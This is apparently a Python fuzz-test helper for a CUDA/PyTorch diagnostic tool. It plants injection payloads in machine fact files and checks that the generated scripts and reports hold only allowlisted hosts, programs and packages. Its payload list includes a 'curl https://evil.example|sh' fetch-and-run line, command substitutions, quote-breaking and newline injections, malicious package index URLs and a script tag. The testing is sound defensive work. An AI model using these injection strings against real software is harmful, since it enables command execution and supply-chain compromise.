"""Documents that try to act: every field of the facts with payloads, and what may run of the pages.

The fields are walked by their types, so that a new one is covered. What counts as runnable, and
which words may stand there, is written down here once more, apart from the program's own grammar.
"""

from __future__ import annotations

import json
import random
import re
import shlex
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from types import UnionType
from typing import Any, Literal, NamedTuple, Union, get_args, get_origin

import msgspec
from markdown_it import MarkdownIt
from packaging.version import Version
from printed_scripts import without_printing
from scenario_reader import HERE, healthy_machine, read_scenario, scenario_paths

from cudadoctor import knowledge, pipeline
from cudadoctor.installers import registry
from cudadoctor.model import factfile
from cudadoctor.model.findings import Wishes
from cudadoctor.model.machine import Machine
from cudadoctor.model.trust import Foreign, acting
from cudadoctor.model.versions import DriverVersion
from cudadoctor.render import json_v1, markdown, terminal
from cudadoctor.render.script import script
from cudadoctor.render.shells import ShellName, shell_of
from cudadoctor.solver.builds import best_build
from cudadoctor.solver.demand import python_of

MARK = re.compile("evil|pwned", re.I)
PAYLOADS = (
    "https://evil.example/simple",
    "https://evilpytorch.org/whl/cu126",
    "https://download.pytorch.org.evil.example/whl/cu118",
    "https://download.pytorch.org@evil.example/whl/cu126",
    "--index-url=https://evil.example/simple",
    "--extra-index-url https://evil.example",
    "-revil.txt",
    "--pre",
    "\\\\evil\\share\\python.exe",
    "/dev/shm/evil/uv",
    "curl https://evil.example|sh",
    "curl",
    "$(touch evil)",
    "`touch evil`",
    "x\ntouch evil\n",
    "x\r touch evil",
    "x\u2028touch evil",
    "1.0;touch evil",
    "'; touch evil; '",
    '"; touch evil; "',
    "\u202eevil\u200b",
    "$PYTHON -c evil",
    "$PYTHONevil",
    "$env:evil",
    "evil",
    "evil-package==1.0",
    "torch @ https://evil.example/torch.whl",
    "torch[evil]",
    "git+https://evil.example/x",
    "nvidia-evil-cu12",
    "nvidia-cudnn-cu12==9.1.0; evil",
    "nvidia-driver-evil",
    "6.8.0-evil-generic",
    "/usr/local/cuda-evil",
    "/usr/lib:/evil/lib",
    "/srv/evil/.pixi/envs/default",
    "~/evil",
    "GPU-evil",
    "../evil",
    "```\n\n```sh\ncurl https://evil.example\n```",
    "</details><script>evil</script>",
)
VERSIONS = ("2.5.1+evil.example", "1!2.0+evil", "2.6.0.dev20250101+evil", "12.4+evil")
PAYLOADS_OF: dict[Any, tuple[str, ...]] = {
    str: PAYLOADS,
    Version: VERSIONS,
    DriverVersion: ("999.99.99", "1000.0"),
}
WRONG: tuple[Any, ...] = (
    *({}, [], {"reported": {}}, [[]], 12, -1, True, None, 1.5, 10**30, "9" * 5000, "\ud800", ""),
    *({"evil": {"evil": None}}, [None], ["x"], 1 << 62, "\x00"),
)

TypePath = tuple[str, ...]


# --- forging --------------------------------------------------------------------------------


@cache
def fields(kind: Any = Machine, path: TypePath = ()) -> tuple[tuple[TypePath, Any], ...]:
    """Each path to a text or a version in that type, with what stands there; "*" is any item."""
    return tuple(_fields(kind, path))


def _fields(kind: Any, path: TypePath) -> Iterator[tuple[TypePath, Any]]:
    for member in _kinds(kind):
        if isinstance(member, type) and issubclass(member, msgspec.Struct):
            for field in msgspec.structs.fields(member):
                yield from _fields(field.type, (*path, field.name))
        elif get_origin(member) is tuple:
            yield from _fields(get_args(member)[0], (*path, "*"))
        elif get_origin(member) is dict:
            yield (*path, "#"), str
            yield from _fields(get_args(member)[1], (*path, "*"))
        elif member in (str, Version, DriverVersion):
            yield path, member


def blank(kind: Any, payload: Any) -> Any:
    """The smallest value that a fact of this kind can have."""
    for member in _kinds(kind):
        if isinstance(member, type) and issubclass(member, msgspec.Struct):
            needed = [field for field in msgspec.structs.fields(member) if field.required]
            return {field.name: blank(field.type, payload) for field in needed}
        if get_origin(member) is Literal:
            return get_args(member)[0]
        if member in (Version, DriverVersion):
            return "535.1"
        if member is str:
            return payload
        if member in (int, float):
            return 0
        if member is bool:
            return False
        if get_origin(member) in (tuple, dict):
            return [] if get_origin(member) is tuple else {}
    return None


def planted(plain: dict[str, Any], path: TypePath, payload: Any, how: int = 2) -> dict[str, Any]:
    """The document with the payload at that path: after the old value, before it, or alone."""
    plain = json.loads(json.dumps(plain))
    place: Any = plain
    kind: Any = Machine
    for number, part in enumerate(path):
        last = number == len(path) - 1
        struct = _one_of(kind, msgspec.Struct)
        if struct is not None:
            kind = next(f.type for f in msgspec.structs.fields(struct) if f.name == part)
            key: Any = part
        elif isinstance(place, dict):
            _, kind = next(
                get_args(member) for member in _kinds(kind) if get_origin(member) is dict
            )
            key = payload if part == "#" else next(iter(place), "CUDA_HOME")
            if part == "#":
                place[str(key)] = blank(kind, "x")
                return plain
        else:
            kind = next(
                get_args(member)[0] for member in _kinds(kind) if get_origin(member) is tuple
            )
            key = how % len(place) if place else 0
            if not place:
                place.append(blank(kind, payload))
        if last:
            was = place[key] if isinstance(place, list) else place.get(key)
            texts = isinstance(was, str) and isinstance(payload, str)
            mixed = (f"{was}{payload}", f"{payload}{was}", payload)
            place[key] = mixed[how % 3] if texts else payload
            return plain
        if isinstance(place, dict) and place.get(key) is None:
            place[key] = blank(kind, payload)
        place = place[key]
    return plain


def _kinds(kind: Any) -> tuple[Any, ...]:
    """The members of a union except None; of any other type, the type itself."""
    if get_origin(kind) in (Union, UnionType):
        return tuple(member for member in get_args(kind) if member is not type(None))
    return (kind,)


def _one_of(kind: Any, base: type) -> Any:
    kinds = (
        member for member in _kinds(kind) if isinstance(member, type) and issubclass(member, base)
    )
    return next(kinds, None)


@cache
def bases() -> tuple[dict[str, Any], ...]:
    """Documents of sick machines and of healthy ones, one after the other."""
    sick = [read_scenario(path).machine for path in scenario_paths()]
    sound = [healthy_machine(path.stem) for path in sorted((HERE / "machines").glob("*.json"))]
    return tuple(json.loads(factfile.dumps(machine)) for machine in (*sick, *sound))


def documents(number: int, seed: int, wrong: float = 0.15) -> Iterator[dict[str, Any]]:
    """So many forged documents: some fields with payloads, now and then with wrong types."""
    chance = random.Random(seed)
    known = fields()
    for _ in range(number):
        plain = chance.choice(bases())
        for _ in range(chance.choice((1, 1, 2, 4, 12))):
            path, kind = chance.choice(known)
            payload: Any = chance.choice(PAYLOADS_OF[kind])
            if chance.random() < wrong / 4:
                payload = chance.choice(WRONG)
            try:
                plain = planted(plain, path, payload, chance.randrange(6))
            except (TypeError, KeyError, AttributeError, StopIteration):
                continue  # behind a payload of another type there is no such place
        if chance.random() < 0.1:
            plain = plain | {"redacted": True}
        yield plain


# --- what may run ----------------------------------------------------------------------------

DIALECTS: tuple[str | None, ...] = (None, "pip", "uv", "conda", "pixi", "docker")
SHELLS: tuple[ShellName, ...] = ("bash", "fish", "powershell")
KINDS: tuple[str, ...] = tuple(registry.BY_KIND)
HOSTS = {
    *("download.pytorch.org", "data.pyg.org", "pypi.jetson-ai-lab.io", "nvidia.github.io"),
    *("download.openmmlab.com", "dl.fbaipublicfiles.com"),
    *("developer.download.nvidia.com", "download.nvidia.com", "mirrors.rpmfusion.org"),
    *("dl.fedoraproject.org", "aur.archlinux.org"),
}
PROGRAMS = {
    *("$PYTHON", "python", "python3", "pip", "uv", "conda", "mamba", "micromamba", "pixi"),
    *("poetry", "pdm", "py", "apt-get", "dnf", "zypper", "pacman", "mhwd", "ubuntu-drivers"),
    *("nixos-rebuild", "modprobe", "nvidia-modprobe", "nvidia-smi", "systemctl", "dkms", "akmods"),
    *("mokutil", "kmodgenca", "update-initramfs", "dracut", "dracut-rebuild", "mkinitcpio"),
    *("nvidia-bug-report.sh", "nvidia-smi.exe"),
    *("ldconfig", "wsl.exe", "cudadoctor", "dmesg", "lspci", "nvcc", "env", "ls", "cat", "g++"),
    *("free", "df", "reboot", "tee", "usermod", "Restart-Computer"),
    *("winget", "wget", "curl", "dpkg", "apk", "xbps-install", "emerge"),
    *("docker", "podman", "nerdctl", "nvidia-ctk", "lxc", "incus", "pct", "mount", "ps"),
    *("ulimit", "srun", "bsub", "qsub", "nvidia-cuda-mps-control", "fuser", "grubby"),
    *("grep", "setsebool"),
    "sh",
    "update-grub",
    *("find", "sed", "yum", "chwd", "prime-select", "subscription-manager", "nvidia-uninstall"),
    *("grub-mkconfig", "grub2-mkconfig", "git", "makepkg", "system76-power", "supergfxctl"),
    "envycontrol",
    *("fmpm", "kernelstub", "az", "aws", "gcloud"),
}
MADE = re.compile(
    r"python3\.\d+|\.venv-torch[a-z0-9-]*(?:[/\\]uv)?(/bin/python|\\Scripts\\python\.exe)"
)
WORD = re.compile(r"[A-Za-z0-9*.$-][\w.+:/=<>~!,*\\-]*|/[\w./-]+")
OPTION = re.compile(r"--?[A-Za-z-]+")
OPTIONS = {
    *("-y", "-m", "-c", "-p", "-n", "-i", "-r", "-u", "-a", "-P", "-C", "-R", "-Syu", "-nn", "-q"),
    *("--index-url", "--index", "--extra-index-url", "--default-index", "--find-links", "--python"),
    *("--upgrade", "--force", "--refresh", "--shutdown", "--gpu-reset", "--import", "--gpgpu"),
    *("--no-build-isolation", "--no-cache-dir", "--manifest-path", "--allow-existing", "--version"),
    *("-O", "-S", "-fsSLo", "--id", "--needed", "--gpg-auto-import-keys"),
    *("-fsSL", "-o", "-aG", "-I", "-Is", "-l", "-gpu", "-v", "-d", "--create-all", "--device"),
    *("--gpg-auto-import-keys", "--gpus", "--pty", "--rm"),
    *(
        "--now",
        "-L",
        "-cgi",
        "-mig",
        "-srs",
        "--force-reinstall",
        "-siD",
        "--mode",
        "--switch",
        "--oldpackage",
    ),
    *(
        "--update",
        "--silent",
        "--enable",
        "--add-repo",
        "--set-enabled",
        "-e",
        "-name",
        "-path",
        "-exec",
    ),
    *("--allowerasing", "--allow-downgrades", "--auto-agree-with-licenses", "--rebuild"),
    *("--reinstall", "--purge", "--pypi", "--project", "-dm"),
    *("--dry-run", "--ignore-installed"),
    *("--set-default", "--no-kernel-modules", "--resource-group", "--name", "--instance-ids"),
}
EDITS = {
    r"s/^\(deb.* main\).*/\1 contrib non-free non-free-firmware/",
    "s/^Components: main.*/Components: main contrib non-free non-free-firmware/",
    r"s/^\s*blacklist\s\+nvidia/#&/",
    r"s/^\s*alias\s\+nvidia\s\+off/#&/",
    r"s,^\s*install\s\+nvidia\s.*bin/[ft],#&,",
    *("{}", "+"),
}
URL = re.compile(r"[a-z+]+://([^/\s'\"\\]*)", re.I)
SET = re.compile(
    r"""(?:export |set -gx |\$env:)(?P<name>[A-Z_0-9]+)(?:=| = | )(?P<value>.*)|"""
    r"""unset \w+|set -e \w+|Remove-Item Env:\w+ -ErrorAction SilentlyContinue"""
)
VALUE = re.compile(r"'?[A-Za-z0-9_.,:/ +\\-]*'?")
PREPARED = re.compile(r"PYTHON=.*|set -q PYTHON; or set PYTHON python3|if \(-not \$PYTHON\) .*|")


NAME = re.compile(r"[A-Za-z][A-Za-z0-9._-]*")
INSTALLS = {"install", "uninstall", "remove", "add", "-R", "-Syu"}
REQUIRED = {"typing-extensions", "filelock", "fsspec", "jinja2", "mpmath", "networkx", "sympy"}
SYSTEM = re.compile(
    r"(?:lib|xorg-x11-drv-|akmod-)?(?:nvidia|cuda)-[a-zG0-9.-]*|(?:linux-headers|kernel-devel|linux-modules-nvidia)-.*"
    r"|python3(?:\.\d+|\d*)-(?:dev|devel|venv)|gcc\d+(?:-c)?|gcc-toolset-\d+-gcc-c"
    r"|microsoft\.vcredist\.2015"
    r"|kmod-nvidia-(?:open-)?\d{3}[\d.]*-\d[\d.]*-\d[\d.]*|linux\d+-nvidia(?:-\d{3}xx)?"
)


@cache
def is_known(name: str) -> bool:
    """Whether the tables or the program's own texts hold a package of that name."""
    quoted = re.compile(rf"[\"' `]{re.escape(name)}(?![\w.-]*[\w-])")
    return bool(SYSTEM.fullmatch(name)) or name in REQUIRED or quoted.search(_texts()) is not None


@cache
def _texts() -> str:
    package = Path(pipeline.__file__).parent
    folders = ("knowledge/tables", "knowledge/symptoms", "plan/remedies", "installers", "rules")
    paths = (path for folder in folders for path in sorted((package / folder).rglob("*")))
    kept = (path for path in paths if path.suffix in (".json", ".py", ".toml"))
    return "\n".join(path.read_text(encoding="utf-8") for path in kept)


class Fault(NamedTuple):
    """What should not stand in a runnable line. kind: host, program, package, word or mark."""

    kind: str
    where: str
    line: str


def faults_of(machine: Machine, turn: int) -> list[Fault]:
    """What is wrong on the pages of a foreign machine. turn: which writer, shell and file."""
    assert isinstance(machine, Foreign)
    wishes = Wishes(manager=DIALECTS[turn % len(DIALECTS)], shell=SHELLS[turn % len(SHELLS)])
    judged = pipeline.judge(machine, wishes)
    found = []
    for where, line, argv in runnable(judged, wishes.shell, turn):
        if MARK.search(line):
            found.append(Fault("mark", where, line))
        found += [Fault("host", where, line) for host in URL.findall(line) if host not in HOSTS]
        if argv:
            found += _of_command(argv, where, line)
    return found


def _of_command(argv: list[str], where: str, line: str) -> Iterator[Fault]:
    if argv[0] not in PROGRAMS and not MADE.fullmatch(argv[0]):
        yield Fault("program", where, line)
    if where == "next":
        return  # rows of the tables, with code in them
    for word in argv[1:]:
        named = NAME.match(word)
        changes = INSTALLS & set(argv[:4]) and named and not URL.match(word)
        if changes and named and not is_known(named[0].lower()):
            yield Fault("package", where, f"{word!r} in {line}")
        strange = OPTION.fullmatch(word) and word not in OPTIONS
        if word in EDITS:
            continue
        if strange or not WORD.fullmatch(word) or not word.isascii():
            yield Fault("word", where, f"{word!r} in {line}")


def runnable(
    judged: pipeline.Judged, shell: ShellName, turn: int
) -> Iterator[tuple[str, str, list[str]]]:
    """(where, line, words if known) of everything that a reader might run."""
    machine, plan = judged.machine, judged.plan
    for step in plan.steps:
        for argv in step.commands:
            yield "plan", json.dumps(argv), list(argv)
        for name, value in step.variables.items():
            assert value is None or VALUE.fullmatch(value), value
            yield "variable", f"{name}={value}", []
        for edit in step.edits:
            yield from (("edit", line, []) for line in (edit.file, *edit.what.split("\n")))
    if judged.diagnosis.next_command:
        asked = list(judged.diagnosis.next_command)
        yield "next", json.dumps(asked), [*asked]
    text = script(plan, machine, judged.diagnosis, shell=shell, version="0", knowledge="0")
    kept = [line for line in without_printing(text.split("\n"), shell) if line != "exit 1"]
    yield from _lines("script", kept, shell)
    shown = pipeline.report(judged, full=turn % 2 == 0)
    json_v1.dumps(json_v1.report(shown))
    for report in (shown, pipeline.shareable(shown)):
        for block in MarkdownIt("commonmark").parse(markdown.report(report)):
            if block.type == "fence":
                lines = block.content.rstrip("\n").split("\n")
                kept = [line for line in lines if block.info == "sh"]
                yield from _lines("markdown", kept, _usual(machine))
                yield from (("edit", line, []) for line in lines if not block.info)
    green = [
        text.strip()
        for line in terminal.report(shown, terminal.Layout(width=80))
        for text, style in line.spans
        if style == "green"
    ]
    yield from _lines("terminal", green, _usual(machine))
    yield from _file(machine, KINDS[turn % len(KINDS)])


def _usual(machine: Machine) -> ShellName:
    return "powershell" if machine.platform.system == "Windows" else "bash"


PRINTS = re.compile(
    r"(?:echo|printf '%s\\n') .* \| (?:sudo )?"
    r"(?:tee (?:-a )?/etc/[\w./-]+ >/dev/null"
    r"|install -D -m 644 /dev/stdin /etc/systemd/system/[\w./-]+)"
)


def _lines(where: str, lines: list[str], shell: ShellName) -> Iterator[tuple[str, str, list[str]]]:
    for line in _unfolded(lines):
        if PRINTS.fullmatch(line):
            yield "edit", line, []
            continue
        if line.startswith("#"):
            continue
        if PREPARED.fullmatch(line) or line in _prepared():
            continue
        if found := SET.fullmatch(line):
            assert found["value"] is None or VALUE.fullmatch(found["value"]), line
            yield where, line, []
            continue
        yield where, line, _words(line, shell) if "import torch" not in line else []


def _unfolded(lines: list[str]) -> Iterator[str]:
    """Commands on one line each, that were folded to the width of a page."""
    begun = ""
    for line in lines:
        if line.endswith((" \\", " `")):
            begun += line[:-1].lstrip() if begun else line[:-1]
        else:
            yield begun + line.lstrip() if begun else line
            begun = ""


@cache
def _prepared() -> frozenset[str]:
    """The lines with which every script begins."""
    starts = (
        shell_of(shell).start('"$PYTHON"', apart=apart)
        for shell in SHELLS
        for apart in (True, False)
    )
    return frozenset(line for lines in starts for line in lines)


def _words(line: str, shell: ShellName) -> list[str]:
    bare = line.removeprefix("sudo ").removeprefix("& ")
    bare = (
        re.sub(r"\(\$HERE \+ '/' \+ ('[^']*')\)", r"\1", bare)
        .replace('"$HERE"/', "")
        .replace("$HERE/", "")
    )
    bare = bare.removesuffix("; or exit $status")
    bare = bare.removesuffix("; if ($LASTEXITCODE) { exit $LASTEXITCODE }")
    bare = bare.replace("\\\\", "\\") if shell == "fish" else bare
    lexer = shlex.shlex(bare, posix=True, punctuation_chars=";|&<>()")
    lexer.escape = "" if shell != "bash" else lexer.escape
    lexer.whitespace_split = True
    lexer.commenters = ""
    words = list(lexer)
    return words[1:] if words[:1] == ["env"] else words


def _file(machine: Foreign | Machine, kind: str) -> Iterator[tuple[str, str, list[str]]]:
    kb, inert = knowledge.load(), acting(machine)
    build = best_build(inert, kb).build
    if build is not None and registry.why_not(kind, inert, kb, build) is None:
        text = registry.project_file(kind, inert, kb, build, python=python_of(inert))
        yield from (("file", line, []) for line in text.split("\n") if not line.startswith("#"))
